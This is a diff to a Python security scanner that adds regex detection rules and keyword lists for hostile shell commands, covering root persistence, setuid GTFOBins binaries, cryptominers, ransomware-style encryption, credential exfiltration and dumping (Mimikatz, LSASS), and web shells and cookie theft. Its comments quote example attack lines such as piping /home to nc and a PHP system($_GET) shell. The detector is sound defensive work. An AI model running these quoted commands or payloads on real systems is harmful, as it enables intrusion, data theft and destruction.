@@ -410,7 +410,7 @@ _shell_rule("code.sh_system_takeover", re.compile(
     r"|(?:>>|\btee\s+(?:-\w+\s+)*-[a-zA-Z]*a[a-zA-Z]*\s+(?:-\w+\s+)*)\s*[\"']?"
     r"(?:~|\$HOME|\$\{HOME\}|/root|/home/[\w.-]+)?/?\.ssh/authorized_keys2?\b"
     # an account or a rule appended to the system's own tables: a user with uid 0, sudo for all
-    r"|(?:>>|\btee\s+(?:-\w+\s+)*-[a-zA-Z]*a[a-zA-Z]*\s+(?:-\w+\s+)*)\s*[\"']?"
+    r"|(?:>>?|\btee\s+(?:-\w+\s+)*)\s*[\"']?"
     r"/etc/(?:passwd|shadow|sudoers(?:\.d/[\w.-]+)?)\b"
     # a program set to start at every logon on Windows: a Run key, a task on logon or start
     r"|(?i:\breg(?:\.exe)?\s+add\s+[\"']?HK(?:CU|LM|EY_CURRENT_USER|EY_LOCAL_MACHINE)\\\\?Software\\\\?"
@@ -418,7 +418,10 @@ _shell_rule("code.sh_system_takeover", re.compile(
     r"|\bschtasks(?:\.exe)?\s+/create\b[^\n|;]{0,300}?/sc\s+(?:onlogon|onstart)\b)"
     # a second root: an account made or changed to uid 0, a shell made setuid, a container given the host's /
     r"|\b(?:useradd|adduser|usermod)\b[^\n;&|]{0,100}?\s-(?:[a-zA-Z]*u|-uid)[=\s]*0(?=$|[\s;&|)])"
-    r"|\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rwx]*s[rwx]*|[246][0-7]{3})\s+[\"']?(?:/usr)?/bin/(?:ba|z|da|k|fi)?sh\b"
+    r"|\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rwx]*s[rwx]*|[246][0-7]{3})\s+[\"']?(?:/usr)?(?:/local)?/s?bin/"
+    # (a shell, or a program that starts one for whoever runs it: GTFOBins' setuid list)
+    r"(?:(?:ba|z|da|k|fi)?sh|find|vim?|nano|less|more|awk|gawk|python[23]?(?:\.\d+)?|perl|ruby|node|php|env|tar|cp|"
+    r"nmap|xargs|nice|taskset|busybox)\b"
     r"|\b(?:docker|podman)\s+run\b[^\n;&|]{0,300}?\s(?:-v|--volume)[=\s]*[\"']?/:/"
     r"|\b(?:docker|podman)\s+run\b[^\n;&|]{0,300}?\s--privileged\b[^\n;&|]{0,300}?\bnsenter\s+(?:-\S+\s+)*-t\s*1\b"
     r"|\bpasswd\s+(?:-\w+\s+)*-d\s+root\b"
@@ -426,16 +429,20 @@ _shell_rule("code.sh_system_takeover", re.compile(
     # ... and in a cloud account: the administrator policy attached, the owner role granted
     r"|\baws\s+iam\s+attach-(?:user|role|group)-policy\b[^\n;&|]{0,300}?policy/AdministratorAccess\b"
     r"|\bgcloud\s+(?:projects|organizations)\s+add-iam-policy-binding\b[^\n;&|]{0,300}?--role[=\s]+roles/owner\b"
+    # ... and its processors lent to someone else: a cryptominer started on a pool
+    r"|(?:(?m:^)|[;&|]\s*|\b(?:nohup|sudo|exec|screen\s+-dm\S*)\s+|[./])"
+    r"(?:xmrig|minerd|cpuminer|ccminer|cgminer|bfgminer|ethminer|nbminer|t-rex|lolminer|phoenixminer)(?:\.exe)?\b"
+    r"[^\n;&|]{0,200}?(?:\s(?:-o|--url|-u|--user|--pool|-p)\b|stratum\+(?:tcp|ssl|tls)://)"
     # ... and in a database: every privilege on every database granted, a role made superuser
     r"|(?i:\bgrant\s+all(?:\s+privileges)?\s+on\s+\*\.\*\s+to\b"
     r"|\b(?:alter|create)\s+(?:user|role)\s+[\w\"`'.@%-]+\s+(?:with\s+)?(?:[\w\s]{0,60}?\s)?superuser\b)"),
     ("kill", "crontab", "authorized_keys", "/etc/passwd", "/etc/shadow", "/etc/sudoers", "useradd", "adduser",
      "usermod", "chmod", "docker", "podman", "aws iam", "add-iam-policy-binding", "passwd -d", "clusterrolebinding",
-     "*.*", "SUPERUSER", "superuser"),
+     "*.*", "SUPERUSER", "superuser", "> /etc/", ">/etc/", "tee /etc/", "miner", "xmrig", "t-rex", "stratum+"),
     "every process killed (kill -9 -1), every cron job removed (crontab -r), a key, an account or a sudo rule "
     "appended (authorized_keys, /etc/passwd, /etc/sudoers), a program started at every logon (Run key, schtasks), "
     "or a second root (a uid 0 account, a setuid shell, the host's / in a container, a cloud administrator role, "
-    "a database superuser)",
+    "a database superuser), or a cryptominer started",
     "MITRE ATT&CK T1098.004 (SSH authorized keys), T1489 (service stop), T1053.003 (cron), T1547.001 (Run keys), "
     "T1053.005 (scheduled task); kill(1) on pid -1",
     itriggers=("reg add", "reg.exe add", "schtasks"))
@@ -487,9 +494,14 @@ _shell_rule("code.sh_disk_wipe", re.compile(
     r"|(?i:\bformat(?:\.com)?\s+[a-z]:\s*/[a-z]|\bformat-volume\b[^\n]*-driveletter\b"
     r"|\bclear-disk\b[^\n]*-remove(?:data|oem)\b)"
     # a fork bomb in perl, Python or C: fork while fork, while(1) fork()
-    r"|\bfork\s+while\s+fork\b|\bwhile\s*\(?\s*(?:1|true|True)\s*\)?\s*[:{]?\s*(?:os\.)?fork\s*\(\s*\)"),
-    ("mkfs", "of=/dev/", ":()", "(){", "() {", "/dev/sd", "wipefs", "shred", "blkdiscard", "sgdisk"),
-    "disk wipe or fork bomb (mkfs/dd/wipefs/shred to a device, format C:, :(){ :|:& };:)",
+    r"|\bfork\s+while\s+fork\b|\bwhile\s*\(?\s*(?:1|true|True)\s*\)?\s*[:{]?\s*(?:os\.)?fork\s*\(\s*\)"
+    # every file of a tree encrypted where it lies, as ransomware does ("find / -name '*.docx' -exec openssl enc ...")
+    r"|\bfind\s+(?:-[HLP]\s+)*[\"']?(?:/|~|\$HOME|/home|/srv|/var)/?[\"']?\s[^\n]{0,200}?-exec\s+"
+    r"(?:openssl\s+(?:enc|aes)|"
+    r"gpg\s+(?:-\w+\s+)*(?:-c|--symmetric|-e|--encrypt)\b|7z\s+a\s+-p|zip\s+(?:-\w+\s+)*-P\b|ccrypt\b)"),
+    ("mkfs", "of=/dev/", ":()", "(){", "() {", "/dev/sd", "wipefs", "shred", "blkdiscard", "sgdisk", "-exec "),
+    "disk wipe or fork bomb (mkfs/dd/wipefs/shred to a device, format C:, :(){ :|:& };:), or every file of a tree "
+    "encrypted in place",
     "well-known destructive one-liners: mkfs/dd/wipefs/shred onto a device, format and Format-Volume, the bash fork "
     "bomb", itriggers=("format", "clear-disk"), prose=True,
     pattern=r"fork\s+while\b|while[^\n]{0,20}fork\s*\(")
@@ -529,15 +541,44 @@ _shell_rule("code.sh_credential_exfil", re.compile(
     + r"|\b(?:scp|rsync|sftp)\b[^\n|;]{0,200}?\s[\"']?" + _CRED + r"[\"']?(?:\s+-\S+)*\s+[\w.-]+@?[\w.-]*:"
     + r"|\bfind\b[^\n]{0,160}?-i?name\s+[\"']?[^\s\"']*"
       r"(?:\.pem|\.key|id_rsa|id_ed25519|id_ecdsa|id_dsa|id_\*|credentials)"
-      r"[\"']?[^\n]{0,160}?-exec\s+(?:curl|wget|scp|nc|ncat)\b"),
+      r"[\"']?[^\n]{0,160}?-exec\s+(?:curl|wget|scp|nc|ncat)\b"
+    # the same from Python: the file read into a request ("requests.post(url, data=open('~/.ssh/id_rsa').read())")
+    + r"|\b(?:requests|httpx|session|urllib\.request|urllib2)\.(?:post|put|patch|get|request|urlopen)\s*\([^\n]{0,300}?"
+      r"\bopen\s*\(\s*(?:os\.path\.expanduser\s*\(\s*)?[rbuf]?[\"']" + _CRED
+    + r"|\burlopen\s*\([^\n]{0,300}?\bopen\s*\(\s*(?:os\.path\.expanduser\s*\(\s*)?[rbuf]?[\"']" + _CRED
+    # every home, or the system's configuration, packed and sent ("tar czf - /home | nc host 9000")
+    + r"|\btar\s+[^\n|;]{0,100}?\s[\"']?(?:/home|/root|/etc|/Users)/?[\"']?(?=[\s|])[^\n|;]{0,100}\|\s*(?:sudo\s+)?"
+    + _NET + r"\b"),
     (".ssh", "id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", ".aws/credentials", ".netrc", ".pgpass", ".git-credentials",
      "_history", "env |", "env|", "printenv",
      ".docker/config", ".kube/config", ".gnupg", "/etc/shadow", "/etc/gshadow", "/etc/passwd", "master.passwd",
-     "privkey", "private_key", "private-key", ".pem", ".key"),
+     "privkey", "private_key", "private-key", ".pem", ".key", "tar "),
     "a credential store sent off the machine (an SSH private key, cloud or registry credentials, /etc/shadow "
-    "uploaded, piped to the network or copied to a remote host)",
+    "uploaded, piped to the network, copied to a remote host or read into a Python request; every home packed "
+    "and piped to the network)",
     "MITRE ATT&CK T1552.004 (private keys), T1552.001 (credentials in files), T1048/T1041 (exfiltration)",
     itriggers=("privatekey",), prose=True)
+# The system's own credentials dumped (MITRE ATT&CK T1003): Mimikatz and its sekurlsa module, the
+# LSASS process's memory written to a file (procdump, comsvcs.dll's MiniDump), the SAM, SECURITY
+# or SYSTEM hive saved, the shadow file read, impacket's secretsdump, LaZagne. A command, not prose:
+# "Mimikatz's sekurlsa::logonpasswords reads LSASS" in an article is about it.
+_shell_rule("code.credential_dump", re.compile(
+    r"(?i:\binvoke-mimikatz\b"
+    r"|\bmimikatz(?:\.exe)?\s+(?:[\"']?\w+::\w+[\"']?\s+)*[\"']?(?:sekurlsa|lsadump|kerberos|crypto)::\w+"
+    r"|^\s*(?:privilege::debug\s+)?(?:sekurlsa|lsadump)::\w+"
+    r"|\bprocdump(?:64)?(?:\.exe)?\s+(?:-\w+\s+)*-ma?\s+(?:-\w+\s+)*lsass(?:\.exe)?\b"
+    r"|\bcomsvcs(?:\.dll)?[\s,]+(?:#24|minidump)\b|\bout-minidump\b[^\n]{0,100}?\blsass\b"
+    r"|\breg(?:\.exe)?\s+save\s+[\"']?HK(?:LM|EY_LOCAL_MACHINE)\\(?:sam|security|system)\b"
+    r"|\bsecretsdump(?:\.py)?\s|\blazagne(?:\.exe)?\s+all\b)"
+    r"|(?:^|&&\s*|\|\|\s*|\bsudo\s+)(?:cat|less|more|head|tail|strings|cp|base64|xxd)\s+(?:-\S+\s+)*"
+    r"/etc/(?:shadow|gshadow)"
+    r"(?![\w.-])", re.M),
+    ("mimikatz", "sekurlsa::", "lsadump::", "procdump", "comsvcs", "minidump", "secretsdump", "lazagne", "/etc/shadow",
+     "/etc/gshadow"),
+    "the system's credentials dumped (Mimikatz, an LSASS memory dump, the SAM hive saved, /etc/shadow read, "
+    "secretsdump, LaZagne)",
+    "MITRE ATT&CK T1003.001 (LSASS memory), T1003.002 (SAM), T1003.008 (/etc/shadow); Sigma rules for procdump "
+    "and comsvcs MiniDump of lsass", itriggers=("reg save", "reg.exe save", "invoke-mimikatz", "out-minidump"))
 # PowerShell fetching a script and running it: IEX with a download, a download piped to iex, an
 # encoded command.
 _shell_rule("code.ps_download_exec", re.compile(
@@ -687,9 +728,18 @@ _shell_rule("code.web_payload", re.compile(
     r"(?:alert|prompt|confirm|eval|fetch|document\.|window\.|location)\b"
     r"|\bhref\s*=\s*[\"']?\s*javascript:\s*[\w.]+\s*\("
     r"|\{\{[^}\n]{0,200}?(?:__class__|__globals__|__builtins__|__subclasses__|__mro__|__import__|\.popen\s*\()"
-    r"|\$\{\s*T\s*\(\s*java\.lang\.Runtime\s*\)", re.I),
+    r"|\$\{\s*T\s*\(\s*java\.lang\.Runtime\s*\)"
+    # the page's cookies or storage sent off by script outside a tag ("fetch('https://x/?c=' + document.cookie)",
+    # "new Image().src = '...' + localStorage.getItem('token')")
+    r"|\b(?:fetch|navigator\.sendBeacon|\.open)\s*\([^)\n]{0,200}?\+\s*(?:document\.cookie|(?:local|session)Storage\b)"
+    r"|\.src\s*=\s*[^;\n]{0,200}?\+\s*(?:document\.cookie|(?:local|session)Storage\b)"
+    # a web shell: what the request carries run as a command or code ("<?php system($_GET['cmd']); ?>")
+    r"|\b(?:system|exec|shell_exec|passthru|popen|proc_open|eval|assert|pcntl_exec)\s*\(\s*"
+    r"\$_(?:GET|POST|REQUEST|COOKIE)\b",
+    re.I),
     (), "an attack payload against a web application (SQL injection, a cookie-stealing script or event handler, "
-        "a server-side template injection)",
+        "a server-side template injection, a web shell)",
     "OWASP Top 10 A03 (injection), CWE-89, CWE-79, CWE-1336; PortSwigger's SQLi, XSS and SSTI cheat sheets",
     itriggers=("' or", "'or", "'--", "' --", "'#", "union", "<script", "onerror", "onload", "onfocus", "onmouseover",
-               "javascript:", "{{", "java.lang.runtime", "xp_cmdshell", "waitfor"))
+               "javascript:", "{{", "java.lang.runtime", "xp_cmdshell", "waitfor", "document.cookie", "localstorage",
+               "sessionstorage", "$_get", "$_post", "$_request", "$_cookie"))
